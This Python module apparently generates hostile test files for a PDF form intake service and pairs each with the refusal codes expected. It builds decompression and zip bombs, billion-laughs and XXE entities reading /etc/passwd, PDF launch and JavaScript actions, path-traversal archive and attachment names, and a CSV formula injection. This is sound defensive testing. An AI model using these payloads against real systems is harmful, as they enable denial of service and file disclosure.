"""Files that nobody should send: each is made from a seed, with the answers that are acceptable for it.

`files(issued, seed)` yields (name, bytes, acceptable answers, kind); an answer is `accepted`, `review`, or the code of a refusal, and `*`
stands for any of them: there the only demands are that there is one answer, in time, and that nothing falls over.
"""

from __future__ import annotations

import email.message
import io
import json
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from random import Random

Case = tuple[str, bytes, set[str], str]
ANY = {"*"}
DAMAGED = {"damaged", "not-a-form-of-ours", "review", "accepted", "unknown-kind", "empty", "not-a-pdf", "xfa-dynamic", "scan"}
FOREIGN = {"not-a-form-of-ours"}
ACTIVE = {"active-content"}
BIG = {"too-large", "memory", "timeout", "damaged", "crashed", "not-a-form-of-ours", "review"}
ARCHIVE = {"archive-bomb", "archive-too-deep", "archive-empty", "damaged", "too-large", "unknown-kind", "not-a-form-of-ours", "empty", "encrypted"}


def files(issued: list[Path], seed: int = 1) -> Iterator[Case]:
    from hostile_channels import more_channels  # both build on what stands here
    from hostile_pdf import more_pdf

    chance = Random(seed)
    originals = [path.read_bytes() for path in issued]
    yield from damaged(originals, chance)
    yield from encrypted(issued[0])
    yield from hollow(chance)
    yield from trees()
    yield from bombs()
    yield from active(issued[0])
    yield from disagreeing(issued[0])
    yield from data_files()
    yield from archives(originals[0])
    yield from mails(originals[0])
    yield from tables()
    yield from more_pdf()
    yield from more_channels(originals[0])


# Ours, spoilt


def damaged(originals: list[bytes], chance: Random) -> Iterator[Case]:
    for number, data in enumerate(originals):
        for part in range(1, 12):
            yield f"cut-{number}-{part}.pdf", data[: len(data) * part // 12], DAMAGED, "cut off"
        yield f"cut-{number}-tail.pdf", data[:-7], DAMAGED, "cut off"
        for bits in (1, 8, 64, 512, 4096):
            spoilt = bytearray(data)
            for _ in range(bits):
                spoilt[chance.randrange(len(spoilt))] ^= 1 << chance.randrange(8)
            yield f"flipped-{number}-{bits}.pdf", bytes(spoilt), DAMAGED | BIG, "bits flipped"
        start, length = chance.randrange(len(data)), len(data) // 8
        yield f"zeroes-{number}.pdf", data[:start] + bytes(length) + data[start + length :], DAMAGED, "zeroes"
        yield f"swapped-{number}.pdf", data[len(data) // 2 :] + data[: len(data) // 2], DAMAGED, "halves swapped"
        yield f"lines-{number}.pdf", data.replace(b"\n", b"\r\n"), DAMAGED, "line ends changed"
        yield f"startxref-{number}.pdf", shifted(data, chance), DAMAGED, "wrong startxref"
        yield f"twice-{number}.pdf", data + data, DAMAGED, "two files in one"
        yield f"behind-{number}.pdf", bytes(chance.randbytes(3000)) + data, DAMAGED, "junk before"
        yield f"trailing-{number}.pdf", data + chance.randbytes(3000), DAMAGED, "junk after"


def shifted(data: bytes, chance: Random) -> bytes:
    at = data.rfind(b"startxref")
    return data[:at] + b"startxref\n%d\n%%%%EOF\n" % chance.randrange(10**9)


def encrypted(path: Path) -> Iterator[Case]:
    import pikepdf

    for name, user, level, answers in (("owner-only", "", 6, {"accepted", "review"}), ("user-aes", "secret", 6, {"encrypted"}),
                                      ("user-rc4", "secret", 3, {"encrypted"})):
        made = io.BytesIO()
        with pikepdf.open(path) as pdf:
            pdf.save(made, encryption=pikepdf.Encryption(owner="owner", user=user, R=level, aes=level > 3, metadata=level > 3))
        yield f"encrypted-{name}.pdf", made.getvalue(), answers, "encrypted"


def hollow(chance: Random) -> Iterator[Case]:
    yield "empty.pdf", b"", {"empty", "unknown-kind", "not-a-pdf"}, "no PDF"
    yield "header.pdf", b"%PDF-1.7\n", DAMAGED, "no PDF"
    yield "eof.pdf", b"%PDF-1.7\n%%EOF\n", DAMAGED, "no PDF"
    yield "noise.pdf", chance.randbytes(50_000), {"unknown-kind", "not-a-pdf", "damaged"}, "no PDF"
    yield "noise-with-header.pdf", b"%PDF-1.7\n" + chance.randbytes(50_000), DAMAGED, "no PDF"
    yield "zeroes.pdf", bytes(100_000), {"unknown-kind", "not-a-pdf", "damaged"}, "no PDF"
    yield "text.pdf", "这不是 PDF\n".encode() * 100, {"unknown-kind", "not-a-pdf", "damaged", "list", "not-a-form-of-ours"}, "no PDF"
    yield "page.pdf", b"<!DOCTYPE html><html><body>404</body></html>", ANY, "no PDF"
    yield "picture.pdf", PNG, {"scan", "unknown-kind", "not-a-pdf"}, "no PDF"
    yield "picture.jpg", b"\xff\xd8\xff\xe0" + chance.randbytes(500), {"scan", "unknown-kind"}, "no PDF"
    yield "program.pdf", b"MZ" + chance.randbytes(2000), {"unknown-kind", "not-a-pdf"}, "no PDF"
    yield "program.exe.pdf", b"\x7fELF" + chance.randbytes(2000), {"unknown-kind", "not-a-pdf"}, "no PDF"
    yield "word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), {"office-file", "unknown-kind"}, "no PDF"


PNG = (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\x02\0\0\0\x90wS\xde\0\0\0\x0cIDATx\x9cc\xf8\xff\xff?\0\x05\xfe\x02\xfe"
       b"\xdc\xccY\xe7\0\0\0\0IEND\xaeB`\x82")


# PDF by hand


def pdf(*objects: bytes, root: bytes = b"1 0 R", trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    output, offsets = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(output)
    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return (output + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + rows
            + b"trailer\n<</Size %d/Root %s%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, trailer, start))


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


CATALOG = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>"
FIELD = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(retiree.name)/V(x)/Rect[10 10 90 30]>>"


def trees() -> Iterator[Case]:
    yield "page-loop.pdf", pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>", PAGE, FIELD), DAMAGED, "loops and depths"
    yield "page-parent-loop.pdf", pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>", PAGE, FIELD), DAMAGED, "loops and depths"
    yield "field-loop.pdf", pdf(CATALOG, PAGES, PAGE, b"<</T(a)/FT/Tx/Kids[4 0 R]>>"), DAMAGED, "loops and depths"
    yield "field-loop-2.pdf", pdf(CATALOG, PAGES, PAGE, b"<</T(a)/Kids[5 0 R]>>", b"<</T(b)/Kids[4 0 R]>>"), DAMAGED, "loops and depths"
    yield "value-loop.pdf", pdf(CATALOG, PAGES, PAGE, b"<</T(a)/FT/Tx/V 5 0 R>>", b"5 0 R"), DAMAGED, "loops and depths"
    chain = [b"<</T(n)/Kids[%d 0 R]>>" % number for number in range(5, 20_005)]
    yield "deep-fields.pdf", pdf(CATALOG, PAGES, PAGE, *chain, FIELD), DAMAGED, "loops and depths"
    yield "deep-arrays.pdf", pdf(CATALOG, PAGES, PAGE, b"<</T(a)/FT/Tx/V " + b"[" * 100_000 + b"]" * 100_000 + b">>"), DAMAGED | BIG, "loops and depths"
    yield "deep-dictionaries.pdf", pdf(CATALOG, PAGES, PAGE, b"<</A" * 50_000 + b" 1" + b">>" * 50_000), DAMAGED | BIG, "loops and depths"
    yield "deep-pages.pdf", pdf(
        CATALOG, *[b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % number for number in range(3, 5003)], b"<</Type/Page>>"), DAMAGED, "loops and depths"
    yield "many-fields.pdf", pdf(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + b" ".join(b"%d 0 R" % number for number in range(4, 60_004)) + b"]>>>>",
        PAGES, PAGE, *[b"<</FT/Tx/T(f%d)/V(x)>>" % number for number in range(60_000)]), DAMAGED | BIG, "huge"
    same = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + b"4 0 R " * 500_000 + b"]>>>>"
    yield "same-field-often.pdf", pdf(same, PAGES, PAGE, FIELD), DAMAGED | BIG, "huge"
    yield "huge-string.pdf", pdf(CATALOG, PAGES, PAGE, b"<</FT/Tx/T(retiree.name)/V(" + b"x" * 30_000_000 + b")>>"), DAMAGED | BIG, "huge"
    yield "huge-name.pdf", pdf(CATALOG, PAGES, PAGE, b"<</FT/Tx/T(" + b"n" * 5_000_000 + b")/V(x)>>"), DAMAGED | BIG, "huge"
    yield "huge-numbers.pdf", pdf(CATALOG, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[-1e308 -99999999999999999999 1e308 9]/Annots[4 0 R]>>",
                                  FIELD.replace(b"10 10", b"-1e99 99999999999999999999999")), DAMAGED, "huge"
    yield "huge-page.pdf", pdf(CATALOG, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000000000 2000000000]>>", FIELD), DAMAGED, "huge"
    yield "too-big.pdf", pdf(CATALOG, PAGES, PAGE, FIELD) + b"%" + bytes(70_000_000), {"too-large"}, "huge"
    yield "stranger.pdf", pdf(CATALOG, PAGES, PAGE, FIELD.replace(b"retiree.name", b"Text1")), FOREIGN, "of others"
    yield "plain-page.pdf", pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"), FOREIGN, "of others"
    yield "scan.pdf", pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
        stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
        stream(zlib.compress(b"\xff" * 10_000), b"/Type/XObject/Subtype/Image/Width 100/Height 100/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode")
    ), {"scan", "not-a-form-of-ours"}, "of others"


def bombs() -> Iterator[Case]:
    gigabyte = deflated_zeroes(2048)
    twice = zlib.compress(gigabyte, 9)
    bomb = stream(gigabyte, b"/Filter/FlateDecode")
    double = stream(twice, b"/Filter[/FlateDecode/FlateDecode]")
    for name, made in (("bomb", bomb), ("bomb-twice", double)):
        yield f"{name}-value.pdf", pdf(CATALOG, PAGES, PAGE, b"<</FT/Tx/T(retiree.name)/V 5 0 R>>", made), DAMAGED | BIG, "bombs"
        yield f"{name}-page.pdf", pdf(CATALOG, PAGES, PAGE[:-2] + b"/Contents 5 0 R>>", FIELD, made), DAMAGED | BIG, "bombs"
        yield f"{name}-appearance.pdf", pdf(CATALOG, PAGES, PAGE, FIELD[:-2] + b"/AP<</N 5 0 R>>>>", made[:2] + b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + made[2:]), DAMAGED | BIG, "bombs"
        yield f"{name}-attachment.pdf", pdf(
            CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[(record.xml) 6 0 R]>>>>>>", PAGES, PAGE, FIELD, made,
            b"<</Type/Filespec/F(record.xml)/UF(record.xml)/EF<</F 5 0 R>>>>"), DAMAGED | BIG, "bombs"
        yield f"{name}-metadata.pdf", pdf(CATALOG[:-2] + b"/Metadata 5 0 R>>", PAGES, PAGE, FIELD, made), DAMAGED | BIG, "bombs"
        yield f"{name}-xfa.pdf", pdf(CATALOG[:-4] + b"/XFA 5 0 R>>>>", PAGES, PAGE, FIELD, made), DAMAGED | BIG, "bombs"
        packed = made[:2] + b"/Type/ObjStm/N 100000/First 1000000" + made[2:]
        yield f"{name}-objects.pdf", pdf(CATALOG, PAGES, PAGE, FIELD, packed) + b"", DAMAGED | BIG, "bombs"
    picture = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    page = PAGE[:-2] + b"/Contents 6 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
    for kind in (b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode", b"LZWDecode", b"RunLengthDecode", b"ASCII85Decode"):
        junk = Random(kind).randbytes(20_000)
        yield f"junk-{kind.decode()}.pdf", pdf(
            CATALOG, PAGES, page, FIELD, stream(junk, picture + b"/Filter/" + kind), stream(b"q 500 0 0 500 0 0 cm /I Do Q")), DAMAGED | BIG, "pictures"
    yield "many-forms.pdf", pdf(
        CATALOG, PAGES, PAGE[:-2] + b"/Contents 5 0 R/Resources<</XObject<</X 6 0 R>>>>>>", FIELD, stream(b"/X Do " * 1000),
        *[stream(b"/X Do " * 1000, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % number)
          for number in (7, 8, 9, 6)]), DAMAGED | BIG, "bombs"


def deflated_zeroes(mebibytes: int) -> bytes:
    """What a compressor makes of so many zeroes, without compressing each."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = ((mebibytes << 20) % 65521 << 16) | 1
    return b"\x78\xda" + block * mebibytes + b"\x03\x00" + checksum.to_bytes(4, "big")


def active(path: Path) -> Iterator[Case]:
    """Our form, with something that runs: refused, never run."""
    import pikepdf

    actions = {
        "javascript": b"<</S/JavaScript/JS(app.launchURL\\('http://example.invalid'\\);while\\(1\\);)>>",
        "launch": b"<</S/Launch/F(calc.exe)>>", "submit": b"<</S/SubmitForm/F<</FS/URL/F(http://example.invalid/)>>/Flags 4>>",
        "import": b"<</S/ImportData/F(/etc/passwd)>>", "uri": b"<</S/URI/URI(http://example.invalid/)>>",
        "gotoe": b"<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>", "gotor": b"<</S/GoToR/F(//example.invalid/share/a.pdf)/D[0/Fit]>>",
    }
    for name, action in actions.items():
        for place in ("open", "field"):
            made = io.BytesIO()
            with pikepdf.open(path) as opened:
                what = pikepdf.Object.parse(action)
                if place == "open":
                    opened.Root.OpenAction = what
                else:
                    opened.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(K=what, F=what)
                opened.save(made)
            yield f"active-{name}-{place}.pdf", made.getvalue(), ACTIVE | ({"accepted", "review"} if name == "gotor" else set()), "active content"
    made = io.BytesIO()
    with pikepdf.open(path) as opened:
        opened.attachments["harmless.exe"] = b"MZ" + bytes(5000)
        opened.save(made)
    yield "active-program.pdf", made.getvalue(), ACTIVE | {"review"}, "active content"
    xfa = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"
    yield "xfa-dynamic.pdf", pdf(
        b"<</Type/Catalog/Pages 2 0 R/NeedsRendering true/AcroForm<</Fields[]/XFA 4 0 R>>>>", PAGES, PAGE.replace(b"/Annots[4 0 R]", b""),
        stream(xfa)), {"xfa-dynamic", "not-a-form-of-ours"}, "XFA"
    yield "xfa-entities.pdf", pdf(CATALOG[:-4] + b"/XFA 5 0 R>>>>", PAGES, PAGE, FIELD, stream(LAUGHS)), DAMAGED, "XFA"


def disagreeing(path: Path) -> Iterator[Case]:
    """Our form showing one thing and storing another: nobody may find it accepted in silence."""
    import pikepdf

    def texts(opened: pikepdf.Pdf) -> Iterator[pikepdf.Object]:
        def walk(nodes):
            for node in nodes:
                if "/Kids" in node:
                    yield from walk(node.Kids)
                elif node.get("/FT", node.get("/Parent", {}).get("/FT")) == "/Tx":
                    yield node

        return walk(opened.Root.AcroForm.Fields)

    def values(opened):
        for node in texts(opened):
            if "/V" in node and "姓名" not in str(node.V):
                node.V = pikepdf.String("另一个值")

    def blank(opened):
        for node in texts(opened):
            if "/AP" in node:
                node.AP.N = opened.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])

    def double(opened):
        fields = opened.Root.AcroForm.Fields
        for node in list(fields)[:5]:
            copy = opened.make_indirect(pikepdf.Dictionary(node))
            copy.V = pikepdf.String("第二个值")
            fields.append(copy)

    def version(opened):
        with opened.open_metadata() as metadata:
            for key in list(metadata):
                if "ersion" in key and "andover" in key:
                    metadata[key] = "99"
        for key in list(opened.docinfo.keys()):
            if "version" in key.lower():
                opened.docinfo[key] = "99"

    for name, change, answers in (("values", values, {"review", "damaged", "not-a-form-of-ours"} | {"*"}), ("blank", blank, {"review"}), ("double", double, {"review", "*"}),
                                  ("version", version, ANY)):
        made = io.BytesIO()
        with pikepdf.open(path) as opened:
            change(opened)
            opened.save(made)
        yield f"disagreeing-{name}.pdf", made.getvalue(), answers, "stored and shown differ"


# Other channels

LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
          b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;</l>')


def data_files() -> Iterator[Case]:
    refused = {"not-a-form-of-ours", "damaged", "unknown-kind", "too-large", "review", "memory", "timeout",
               "xml-doctype", "xml-too-large", "xml-malformed", "xml-too-deep"}
    xfdf = b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="retiree.name"><value>%s</value></field></fields></xfdf>'
    doctype = b'<?xml version="1.0"?><!DOCTYPE xfdf [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + xfdf % b"&e;"
    yield "xxe.xfdf", doctype, refused, "FDF and XML"
    yield "xxe-remote.xfdf", doctype.replace(b"file:///etc/passwd", b"http://example.invalid/e"), refused, "FDF and XML"
    quadratic = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "' + b"x" * 80_000 + b'">]>' + xfdf % (b"&e;" * 20_000)
    yield "quadratic.xfdf", quadratic, refused, "FDF and XML"
    yield "laughs.xml", LAUGHS, refused, "FDF and XML"
    yield "deep.xml", b"<a>" * 200_000 + b"</a>" * 200_000, refused, "FDF and XML"
    yield "deep.xfdf", b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields>' + b'<field name="a">' * 100_000, refused, "FDF and XML"
    yield "stranger.xfdf", xfdf % b"x", refused, "FDF and XML"
    yield "cut.xfdf", (xfdf % b"x")[:60], refused, "FDF and XML"
    yield "utf16.xfdf", (xfdf % b"x").decode().encode("utf-16"), refused, "FDF and XML"
    fields = b"%%FDF-1.2\n1 0 obj\n<</FDF<</Fields[%s]>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%%%EOF\n"
    yield "stranger.fdf", fields % b"<</T(a)/V(b)>>", refused, "FDF and XML"
    yield "deep.fdf", fields % (b"<</T(a)/Kids[" * 50_000), refused, "FDF and XML"
    yield "loop.fdf", fields % b"1 0 R", FOREIGN, "FDF and XML"
    yield "script.fdf", fields % b"<</T(a)/V(b)/A<</S/JavaScript/JS(1)>>>>", refused | ACTIVE, "FDF and XML"
    yield "half.fdf", (fields % b"<</T(a)/V(b)>>")[:40], refused, "FDF and XML"


def archives(original: bytes) -> Iterator[Case]:
    yield "slip.zip", zipped({"../../outside.pdf": original, "/tmp/absolute.pdf": original, "..\\win.pdf": original}), ANY, "archives"
    yield "bomb.zip", zipped({"bomb.pdf": b"%PDF-1.7\n" + bytes(1 << 28)}), ARCHIVE, "archives"
    inner = zipped({f"{number}.pdf": bytes(8 << 20) for number in range(10)})
    yield "wide-bomb.zip", inner, ARCHIVE, "archives"
    for _ in range(8):
        inner = zipped({"inner.zip": inner})
    yield "nested.zip", inner, ARCHIVE, "archives"
    yield "many.zip", zipped({f"{number}.txt": b"x" for number in range(20_000)}), ARCHIVE, "archives"
    yield "overlap.zip", overlapping(), ARCHIVE | ANY, "archives"
    yield "cut.zip", zipped({"a.pdf": original})[:-300], ARCHIVE, "archives"
    yield "none.zip", zipped({}), ARCHIVE, "archives"
    yield "names.zip", zipped({"换行\n名字.pdf": original, "x" * 60_000 + ".pdf": original, "con.pdf": b"", "a\x00b.pdf": original}), ANY, "archives"
    yield "utf.zip", zipped({"正常.pdf": original}).replace("正常".encode(), b"\xff\xfe\xfd\xfc\xfb\xfa"), ANY, "archives"


def zipped(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name.replace("\0", "_"), (2026, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def overlapping() -> bytes:
    """A directory that names the same bytes a thousand times."""
    one = zipped({"a.pdf": bytes(1 << 20)})
    start = one.index(b"PK\1\2")
    end = one.index(b"PK\5\6")
    entry = one[start:end]
    directory = entry * 1000
    tail = bytearray(one[end:])
    tail[8:12] = (1000).to_bytes(2, "little") * 2
    tail[12:16] = len(directory).to_bytes(4, "little")
    return one[:start] + directory + bytes(tail)


def mails(original: bytes) -> Iterator[Case]:
    message = email.message.EmailMessage()
    message["Subject"], message["From"] = "表格", "a@example.invalid"
    message.set_content("见附件")
    message.add_attachment(original, maintype="application", subtype="pdf", filename="../../../tmp/outside.pdf")
    yield "slip.eml", message.as_bytes(), ANY, "mail"
    nested = b"From: a@example.invalid\nContent-Type: message/rfc822\n\n" * 5000 + b"Content-Type: text/plain\n\nx"
    yield "deep.eml", nested, ANY - {"*"} | {"archive-too-deep", "not-a-form-of-ours", "unknown-kind", "damaged", "empty", "review", "accepted"}, "mail"
    parts = b"".join(b'--b\nContent-Type: application/pdf; name="%d.pdf"\n\n%%PDF-1.7\n' % number for number in range(20_000))
    yield "many-parts.eml", b'MIME-Version: 1.0\nFrom: a@example.invalid\nSubject: x\nContent-Type: multipart/mixed; boundary="b"\n\n' + parts, ANY, "mail"
    yield "endless-header.eml", b"From: a@example.invalid\nSubject: " + b"x " * 5_000_000, ANY, "mail"
    yield "junk-base64.eml", (b"From: a@example.invalid\nMIME-Version: 1.0\nContent-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\n"
                              + b"!!!!" * 10_000), ANY, "mail"


def tables() -> Iterator[Case]:
    yield "injection.csv", '姓名,身份证号码\n"=cmd|\' /C calc\'!A1",110201194003150028\n@SUM(1),+1\n'.encode(), ANY, "tables"
    yield "formulas.xlsx", zipped({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": LAUGHS, "xl/worksheets/sheet1.xml": LAUGHS}), ANY, "tables"
    yield "list.json", json.dumps([{"姓名": "=1+1"}] * 10).encode(), ANY, "tables"
